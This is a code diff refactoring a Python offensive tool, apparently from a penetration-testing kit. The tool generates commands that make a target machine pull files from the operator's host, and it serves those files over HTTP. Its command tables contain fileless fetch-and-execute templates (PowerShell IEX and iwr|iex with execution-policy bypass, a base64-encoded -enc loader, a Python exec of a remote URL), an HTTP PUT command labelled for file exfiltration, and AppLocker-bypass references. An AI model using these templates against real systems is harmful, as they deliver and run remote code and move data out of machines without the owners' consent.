@@ -5,17 +5,34 @@
 import argparse
 import sys
 import os
-import psutil
+import re
+import shutil
 import socket
 import subprocess
 
 from colorama import Fore
 from colorama import Style
 from base64 import b64encode
-from pyperclip import copy
-from simple_term_menu import TerminalMenu
+from functools import lru_cache
+from functools import partial
+from http.server import SimpleHTTPRequestHandler
+from http.server import ThreadingHTTPServer
+from itertools import islice
 
 here = os.getcwd()
+max_listed_files = 200
+more_files = '... (more files, type the name)'
+blue = Fore.BLUE + Style.BRIGHT
+red = Fore.RED + Style.BRIGHT
+reset = Style.RESET_ALL
+placeholder_regex = re.compile(r'\{(LHOST|LPORT|INPUTFILE|OUTPUTFILE)\}')
+
+# Folder searched by each fzf entry of the file menu, None lets fzf use its default source
+fzf_sources = {
+    "fzf resources": "/opt/resources",
+    "fzf my-resources": "/opt/my-resources",
+    "fzf all": None,
+}
 
 # files = {"windows": {
 #     "nc.exe": "/opt/resources/windows/nc.exe",
@@ -25,47 +42,97 @@ here = os.getcwd()
 #     "SUIDump.py": "/opt/my-resources/linux/SUIDump.py",
 # }}
 
-def menu(title, menu_list):
+# psutil, pyperclip and simple_term_menu are imported where they are used,
+# so that --help and --list don't pay for loading them
+
+def menu_index(title, menu_list):
+    from simple_term_menu import TerminalMenu
     menu = TerminalMenu(menu_list, title=title)
-    selection = menu.show()
-    return menu_list[selection]
+    return menu.show()
+
+def menu(title, menu_list):
+    return menu_list[menu_index(title, menu_list)]
+
+def custom_choice(title):
+    print(f'(custom) {title}')
+    return input(f'{red}> {reset}')
 
-def menu_with_custom_choice(title, menu_list):
+# choices are (label, value) pairs, displayed as "label (value)"
+def menu_with_custom_choice(title, choices):
+    menu_list = [f'{label} ({value})' for label, value in choices]
     menu_list.append('Custom')
-    selection = menu(title, menu_list)
-    if selection == 'Custom':
-        print(f'(custom) {title}')
-        selection = input(Fore.RED + Style.BRIGHT + '> ' + Style.RESET_ALL)
-        return selection
+    selection = menu_index(title, menu_list)
+    if selection == len(choices):
+        return custom_choice(title)
     else:
-        return selection.split('(')[1].split(')')[0]
+        return choices[selection][1]
 
-def select_address():
-    interfaces = {}
-    net_if_addrs = psutil.net_if_addrs()
-    for iface, addr in net_if_addrs.items():
+# First IPv4 address of each interface, enumerated only once since interfaces rarely change during a run
+@lru_cache(maxsize=1)
+def get_ipv4_addresses():
+    import psutil
+    addresses = []
+    for iface, addrs in psutil.net_if_addrs().items():
         if iface == 'lo':
             continue
-        for address in addr:
-            if address.family == socket.AF_INET:
-                interfaces.update({iface:address.address})
-
-    menu_list = []
-    for key in interfaces:
-        menu_list.append(key + ' (' + interfaces[key] + ')')
+        address = next((a.address for a in addrs if a.family == socket.AF_INET), None)
+        if address is not None:
+            addresses.append((iface, address))
+    return tuple(addresses)
 
-    return menu_with_custom_choice("Interface/address serving the files?", menu_list)
+def select_address():
+    return menu_with_custom_choice("Interface/address serving the files?", get_ipv4_addresses())
 
 def list_commands():
-    print(Fore.BLUE + Style.BRIGHT + 'Windows commands' + Style.RESET_ALL)
-    for command in sorted(windows.keys()):
+    print(f'{blue}Windows commands{reset}')
+    for command in command_types['windows']:
         print('   - ' + command)
     print()
-    print(Fore.BLUE + Style.BRIGHT + 'Linux commands' + Style.RESET_ALL)
-    for command in sorted(linux.keys()):
+    print(f'{blue}Linux commands{reset}')
+    for command in command_types['linux']:
         print('   - ' + command)
     quit()
 
+# Paths of the files and symlinks under a resources folder, yielded as they are found
+def walk_files(root):
+    fd = shutil.which('fd') or shutil.which('fdfind')
+    if fd:
+        with subprocess.Popen([fd, '--type', 'f', '--type', 'l', '--hidden', '--no-ignore', '.', root], stdout=subprocess.PIPE, text=True) as fd_process:
+            yield from fd_process.stdout
+        return
+    for dirpath, dirnames, filenames in os.walk(root):
+        for filename in filenames:
+            yield os.path.join(dirpath, filename) + '\n'
+        # os.walk lists symlinks to folders with the folders (without following them), fd lists them as links
+        for dirname in dirnames:
+            path = os.path.join(dirpath, dirname)
+            if os.path.islink(path):
+                yield path + '\n'
+
+# Stream the file list to fzf so that it can be searched while the folder is still being walked
+def fzf_select(root):
+    try:
+        if root is None:
+            fzf_result = subprocess.run(['fzf'], stdout=subprocess.PIPE, text=True)
+            return fzf_result.stdout.strip()
+        fzf_process = subprocess.Popen(['fzf'], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
+    except FileNotFoundError:
+        print(f"{red}fzf not found{reset}")
+        return ''
+    try:
+        for path in walk_files(root):
+            fzf_process.stdin.write(path)
+    except BrokenPipeError:
+        # fzf exited (file selected or aborted) before getting the whole list
+        pass
+    try:
+        fzf_process.stdin.close()
+    except BrokenPipeError:
+        pass
+    selection = fzf_process.stdout.read()
+    fzf_process.wait()
+    return selection.strip()
+
 def get_options():
     parser = argparse.ArgumentParser(description='Generate a file downloader/uploader command', formatter_class=argparse.RawTextHelpFormatter)
     parser.add_argument('-lp', '--lport', dest='LPORT', type=str, help='Server port')
@@ -82,114 +149,166 @@ def get_options():
     if not options.TARGETOS:
         options.TARGETOS = menu("What operating system is the target running?", ['windows','linux'])
     if not options.TYPE:
-        commands_dict = globals()[options.TARGETOS]
-        menu_list = sorted(list(commands_dict.keys()))
-        options.TYPE = menu("What type of command do you want?", menu_list)
+        options.TYPE = menu("What type of command do you want?", command_types[options.TARGETOS])
     if not options.LHOST:
         options.LHOST = select_address()
     if not options.LPORT:
-        menu_list = [
-            'HTTP (80)',
-            'HTTPS (443)',
+        choices = [
+            ('HTTP', '80'),
+            ('HTTPS', '443'),
         ]
-        options.LPORT = menu_with_custom_choice("Port serving the files?", menu_list)
+        options.LPORT = menu_with_custom_choice("Port serving the files?", choices)
     if not options.INPUTFILE:
-        menu_list = ["fzf resources", "fzf my-resources", "fzf all"]
+        menu_list = list(fzf_sources)
         # if options.TARGETOS == "windows":
         #     menu_list += [f for f in files[options.TARGETOS]]
         # if options.TARGETOS == "linux":
         #     menu_list += [f for f in files[options.TARGETOS]]
-        menu_list += [ f for f in os.listdir(here) if os.path.isfile(os.path.join(here, f))]
+        # Big folders are cut short, the other files can still be typed in
+        with os.scandir(here) as entries:
+            listed_files = list(islice((entry.name for entry in entries if entry.is_file()), max_listed_files + 1))
+        if len(listed_files) > max_listed_files:
+            listed_files[-1] = more_files
+        menu_list += listed_files
         options.INPUTFILE = menu('Which file do you want the target to download?', menu_list)
-    if options.INPUTFILE == "fzf resources":
-        fzf_result = subprocess.run("find /opt/resources | fzf", shell=True, stdout=subprocess.PIPE, text=True)
-        options.INPUTFOLDER = os.path.dirname(fzf_result.stdout.strip())
-        options.INPUTFILE = os.path.basename(fzf_result.stdout.strip())
-    if options.INPUTFILE == "fzf my-resources":
-        fzf_result = subprocess.run("find /opt/my-resources | fzf", shell=True, stdout=subprocess.PIPE, text=True)
-        options.INPUTFOLDER = os.path.dirname(fzf_result.stdout.strip())
-        options.INPUTFILE = os.path.basename(fzf_result.stdout.strip())
-    if options.INPUTFILE == "fzf all":
-        fzf_result = subprocess.run("fzf", shell=True, stdout=subprocess.PIPE, text=True)
-        options.INPUTFOLDER = os.path.dirname(fzf_result.stdout.strip())
-        options.INPUTFILE = os.path.basename(fzf_result.stdout.strip())
+        if options.INPUTFILE == more_files:
+            options.INPUTFILE = custom_choice('Which file do you want the target to download?')
+    if options.INPUTFILE in fzf_sources:
+        options.INPUTFOLDER, options.INPUTFILE = os.path.split(fzf_select(fzf_sources[options.INPUTFILE]))
+    # The URLs are relative to the served folder, serve the folder of a file given with its full path
+    if os.path.isabs(options.INPUTFILE):
+        options.INPUTFOLDER, options.INPUTFILE = os.path.split(options.INPUTFILE)
     if not options.OUTPUTFILE:
-        menu_list = ['Same filename ({})'.format(options.INPUTFILE)]
+        choices = [('Same filename', options.INPUTFILE)]
         if options.TARGETOS == "windows":
-            menu_list.append('Same filename in temp ({})'.format('C:\Windows\Temp\\' + options.INPUTFILE))
+            choices.append(('Same filename in temp', 'C:\\Windows\\Temp\\' + options.INPUTFILE))
             # TODO: add legit names
-            #menu_list.append('Some legit name ({})'.format('licence.txt'))
+            #choices.append(('Some legit name', 'licence.txt'))
         if options.TARGETOS == "linux":
-            menu_list.append('Same filename in /tmp ({})'.format('/tmp/' + options.INPUTFILE))
-        options.OUTPUTFILE = menu_with_custom_choice("Filename to write on the target machine?", menu_list)
+            choices.append(('Same filename in /tmp', '/tmp/' + options.INPUTFILE))
+        options.OUTPUTFILE = menu_with_custom_choice("Filename to write on the target machine?", choices)
     return options
 
-# Helper function for populate_commands() to add values to the dictionnaries
-def add_command(commands_dict, type, command, notes=None):
-    if not type in commands_dict.keys():
-        commands = []
-    else:
-        commands = commands_dict[type]
-    commands.append((notes, command))
-    commands_dict.update({type:commands})
-
-# Add commands to the main dictionnaries: windows and linux
-def populate_commands():
-    ## TODO: populate this
-    add_command(linux, 'curl', '''curl http://{LHOST}:{LPORT}/{INPUTFILE} -o {OUTPUTFILE}''')
-    add_command(linux, 'wget', '''wget {LHOST}:{LPORT}/{INPUTFILE} -O {OUTPUTFILE}''')
-    add_command(commands_dict=linux, type='python', notes="In memory", command='''python -c "import urllib2; exec urllib2.urlopen('{LHOST}:{LPORT}/{INPUTFILE}').read()"''')
-    add_command(windows, 'certutil', '''certutil.exe -urlcache -f http://{LHOST}:{LPORT}/{INPUTFILE} {OUTPUTFILE}''')
-    add_command(windows, 'powershell', '''powershell.exe -c "(New-Object Net.WebClient).DownloadFile('http://{LHOST}:{LPORT}/{INPUTFILE}','{OUTPUTFILE}')"''')
-    add_command(windows, 'powershell', '''powershell.exe -c "Invoke-WebRequest 'http://{LHOST}:{LPORT}/{INPUTFILE}' -OutFile '{OUTPUTFILE}' ''')
-    add_command(windows, 'powershell', '''powershell.exe -c "Import-Module BitsTransfer; Start-BitsTransfer -Source 'http://{LHOST}:{LPORT}/{INPUTFILE}' -Destination '{OUTPUTFILE}'"''')
-    add_command(windows, 'powershell', '''powershell.exe -c "Import-Module BitsTransfer; Start-BitsTransfer -Source 'http://{LHOST}:{LPORT}/{INPUTFILE}' -Destination '{OUTPUTFILE}' -Asynchronous"''')
-    add_command(commands_dict=windows, type='powershell', notes="In memory", command='''powershell.exe "IEX(New-Object Net.WebClient).downloadString('http://{LHOST}:{LPORT}/{INPUTFILE}')"''')
-    add_command(commands_dict=windows, type='powershell', notes="In memory", command='''powershell.exe -exec bypass -c "(New-Object Net.WebClient).Proxy.Credentials=[Net.CredentialCache]::DefaultNetworkCredentials;iwr('http://{LHOST}:{LPORT}/{INPUTFILE}')|iex"''')
-    add_command(windows, 'bitsadmin', '''bitsadmin.exe /transfer 5720 /download /priority normal http://{LHOST}:{LPORT}/{INPUTFILE} {OUTPUTFILE}''')
-    add_command(windows, 'wget', '''wget "http://{LHOST}:{LPORT}/{INPUTFILE}" -OutFile "{OUTPUTFILE}"''')
-    add_command(commands_dict=windows, type='powershell', notes="Exfiltrate file with HTTP PUT", command='''powershell -c "Invoke-WebRequest -uri http://{LHOST}:{LPORT}/{OUTPUTFILE} -Method Put -Infile {INPUTFILE}"''')
-    add_command(commands_dict=windows, type='regsvr32', notes="AppLocker bypass", command='''https://pentestlab.blog/2017/05/11/applocker-bypass-regsvr32/''')
-
-# Add commands to the main dictionnaries: windows and linux
-# this function is called after getting the options allowing commands to be generated with the values right now
-# this allows for the generation of more complex commands (i.e. base64 encoded) but
-# bear in mind the command type must already exist in populate_commands() for it to be listed when calling get_options()
-def populate_post_options_commands():
-    add_command(commands_dict=windows, type='powershell', notes="In memory (base64)", command='''powershell.exe -nop -enc "{}"'''.format(b64encode("IEX(New-Object Net.WebClient).downloadString('http://{LHOST}:{LPORT}/{INPUTFILE}')".replace('{LHOST}', options.LHOST).replace('{LPORT}',options.LPORT).replace('{INPUTFILE}',options.INPUTFILE).replace('{OUTPUTFILE}',options.OUTPUTFILE).encode('UTF-16LE')).decode('utf-8')))
-    add_command(commands_dict=windows, type='powershell', notes="Execution policy bypass", command='''https://book.hacktricks.xyz/windows/basic-powershell-for-pentesters#execution-policy''')
-
-def run_server(LHOST, LPORT, INPUTFILE):
+# Substitute every {LHOST}/{LPORT}/{INPUTFILE}/{OUTPUTFILE} placeholder in a single pass
+def fill_placeholders(command, values):
+    return placeholder_regex.sub(lambda match: values[match.group(1)], command)
+
+# Command entries are either templates or functions called with the placeholder values,
+# allowing the generation of more complex commands (i.e. base64 encoded) only when they are displayed
+def generate_command(command, values):
+    if callable(command):
+        return command(values)
+    return fill_placeholders(command, values)
+
+def powershell_base64(values):
+    payload = fill_placeholders("IEX(New-Object Net.WebClient).downloadString('http://{LHOST}:{LPORT}/{INPUTFILE}')", values)
+    return '''powershell.exe -nop -enc "{}"'''.format(b64encode(payload.encode('UTF-16LE')).decode('utf-8'))
+
+# Main dictionnaries: windows and linux
+## TODO: populate this
+linux = {
+    'curl': [
+        (None, '''curl http://{LHOST}:{LPORT}/{INPUTFILE} -o {OUTPUTFILE}'''),
+    ],
+    'wget': [
+        (None, '''wget {LHOST}:{LPORT}/{INPUTFILE} -O {OUTPUTFILE}'''),
+    ],
+    'python': [
+        ("In memory", '''python -c "import urllib2; exec urllib2.urlopen('{LHOST}:{LPORT}/{INPUTFILE}').read()"'''),
+    ],
+}
+
+windows = {
+    'certutil': [
+        (None, '''certutil.exe -urlcache -f http://{LHOST}:{LPORT}/{INPUTFILE} {OUTPUTFILE}'''),
+    ],
+    'powershell': [
+        (None, '''powershell.exe -c "(New-Object Net.WebClient).DownloadFile('http://{LHOST}:{LPORT}/{INPUTFILE}','{OUTPUTFILE}')"'''),
+        (None, '''powershell.exe -c "Invoke-WebRequest 'http://{LHOST}:{LPORT}/{INPUTFILE}' -OutFile '{OUTPUTFILE}' '''),
+        (None, '''powershell.exe -c "Import-Module BitsTransfer; Start-BitsTransfer -Source 'http://{LHOST}:{LPORT}/{INPUTFILE}' -Destination '{OUTPUTFILE}'"'''),
+        (None, '''powershell.exe -c "Import-Module BitsTransfer; Start-BitsTransfer -Source 'http://{LHOST}:{LPORT}/{INPUTFILE}' -Destination '{OUTPUTFILE}' -Asynchronous"'''),
+        ("In memory", '''powershell.exe "IEX(New-Object Net.WebClient).downloadString('http://{LHOST}:{LPORT}/{INPUTFILE}')"'''),
+        ("In memory", '''powershell.exe -exec bypass -c "(New-Object Net.WebClient).Proxy.Credentials=[Net.CredentialCache]::DefaultNetworkCredentials;iwr('http://{LHOST}:{LPORT}/{INPUTFILE}')|iex"'''),
+        ("Exfiltrate file with HTTP PUT", '''powershell -c "Invoke-WebRequest -uri http://{LHOST}:{LPORT}/{OUTPUTFILE} -Method Put -Infile {INPUTFILE}"'''),
+        ("In memory (base64)", powershell_base64),
+        ("Execution policy bypass", '''https://book.hacktricks.xyz/windows/basic-powershell-for-pentesters#execution-policy'''),
+    ],
+    'bitsadmin': [
+        (None, '''bitsadmin.exe /transfer 5720 /download /priority normal http://{LHOST}:{LPORT}/{INPUTFILE} {OUTPUTFILE}'''),
+    ],
+    'wget': [
+        (None, '''wget "http://{LHOST}:{LPORT}/{INPUTFILE}" -OutFile "{OUTPUTFILE}"'''),
+    ],
+    'regsvr32': [
+        ("AppLocker bypass", '''https://pentestlab.blog/2017/05/11/applocker-bypass-regsvr32/'''),
+    ],
+}
+
+os_commands = {
+    'windows': windows,
+    'linux': linux,
+}
+
+# The tables are static, sort their command types once for the menus
+command_types = {
+    'windows': tuple(sorted(windows)),
+    'linux': tuple(sorted(linux)),
+}
+
+def run_server(LHOST, LPORT, INPUTFOLDER, INPUTFILE):
     # if INPUTFILE in files[options.TARGETOS]:
     #     INPUTFILE  = files[options.TARGETOS][INPUTFILE]
-    if not os.path.isabs(INPUTFILE):
-        INPUTFILE = os.path.dirname(os.path.abspath(INPUTFILE))
-    if os.path.exists(INPUTFILE):
-        os.system(f"python3 -m http.server -b {LHOST} -d {options.INPUTFOLDER} {LPORT}")
+    # The URLs are relative to the served folder, so the file must be found inside it
+    abs_folder = os.path.abspath(INPUTFOLDER)
+    abs_path = os.path.abspath(os.path.join(abs_folder, INPUTFILE))
+    if os.path.commonpath([abs_folder, abs_path]) == abs_folder and os.path.isfile(abs_path):
+        handler = partial(SimpleHTTPRequestHandler, directory=INPUTFOLDER)
+        try:
+            # The address family follows the bind address (IPv4 or IPv6), as with python3 -m http.server
+            port = int(LPORT)
+            # getaddrinfo() doesn't range-check the port like bind() does
+            if not 0 <= port <= 65535:
+                raise OverflowError('port must be 0-65535')
+            family, _, _, _, address = socket.getaddrinfo(LHOST, port, type=socket.SOCK_STREAM, flags=socket.AI_PASSIVE)[0]
+            server_class = type('FileServer', (ThreadingHTTPServer,), {'address_family': family})
+            server = server_class(address, handler)
+        except (OSError, OverflowError, ValueError) as e:
+            print(f"{red}Could not bind {LHOST}:{LPORT} ({e}){reset}")
+            return False
+        url_host = f'[{LHOST}]' if ':' in LHOST else LHOST
+        with server:
+            print(f"Serving HTTP on {LHOST} port {LPORT} (http://{url_host}:{LPORT}/) ...")
+            try:
+                server.serve_forever()
+            except KeyboardInterrupt:
+                print("\nKeyboard interrupt received, exiting.")
         return True
     else:
-        print(Fore.RED + Style.BRIGHT + "Input file not found" + Style.RESET_ALL)
+        print(f"{red}Input file not found{reset}")
         return False
 
 if __name__ == '__main__':
-    windows = {}
-    linux = {}
-    populate_commands()
     options = get_options()
-    populate_post_options_commands()
-    commands_dict = globals()[options.TARGETOS]
-    print()
-    for notes, command in commands_dict[options.TYPE]:
-        command_index = commands_dict[options.TYPE].index((notes, command)) + 1
-        print_command = command.replace('{LHOST}', options.LHOST).replace('{LPORT}',options.LPORT).replace('{INPUTFILE}',options.INPUTFILE).replace('{OUTPUTFILE}',options.OUTPUTFILE).strip()
+    commands_dict = os_commands[options.TARGETOS]
+    values = {'LHOST': options.LHOST, 'LPORT': options.LPORT, 'INPUTFILE': options.INPUTFILE, 'OUTPUTFILE': options.OUTPUTFILE}
+    # Output is built first and written at once
+    lines = ['']
+    first_command = None
+    for command_index, (notes, command) in enumerate(commands_dict[options.TYPE], start=1):
+        print_command = generate_command(command, values).strip()
+        if first_command is None:
+            first_command = print_command
         print_notes = ''
         if notes is not None:
             print_notes = notes + ' '
-        print(Fore.BLUE + Style.BRIGHT + '[' + str(command_index) + '] ' + print_notes + Style.RESET_ALL + print_command + '\n')
-    cmdline = f'{sys.argv[0]} --lhost {options.LHOST} --lport {options.LPORT} --target-os {options.TARGETOS} --command {options.TYPE} --input-file {options.INPUTFILE} --output-file {options.OUTPUTFILE}'
-    print(Fore.RED + Style.BRIGHT + 'CLI command used\n' + Style.RESET_ALL + cmdline + '\n')
-    copy(commands_dict[options.TYPE][0][1].replace('{LHOST}', options.LHOST).replace('{LPORT}',options.LPORT).replace('{INPUTFILE}',options.INPUTFILE).replace('{OUTPUTFILE}',options.OUTPUTFILE).strip())
-    if run_server(options.LHOST, options.LPORT, options.INPUTFILE):
+        lines.append(f'{blue}[{command_index}] {print_notes}{reset}{print_command}\n')
+    cmdline = f'{sys.argv[0]} --lhost {options.LHOST} --lport {options.LPORT} --target-os {options.TARGETOS} --command {options.TYPE} --input-folder {os.path.abspath(options.INPUTFOLDER)} --input-file {options.INPUTFILE} --output-file {options.OUTPUTFILE}'
+    lines.append(f'{red}CLI command used\n{reset}{cmdline}\n')
+    sys.stdout.write('\n'.join(lines) + '\n')
+    sys.stdout.flush()
+    from pyperclip import copy
+    copy(first_command)
+    if run_server(options.LHOST, options.LPORT, options.INPUTFOLDER, options.INPUTFILE):
         pass
     else:
-        print(Fore.RED + Style.BRIGHT + "Server failed" + Style.RESET_ALL)
+        print(f"{red}Server failed{reset}")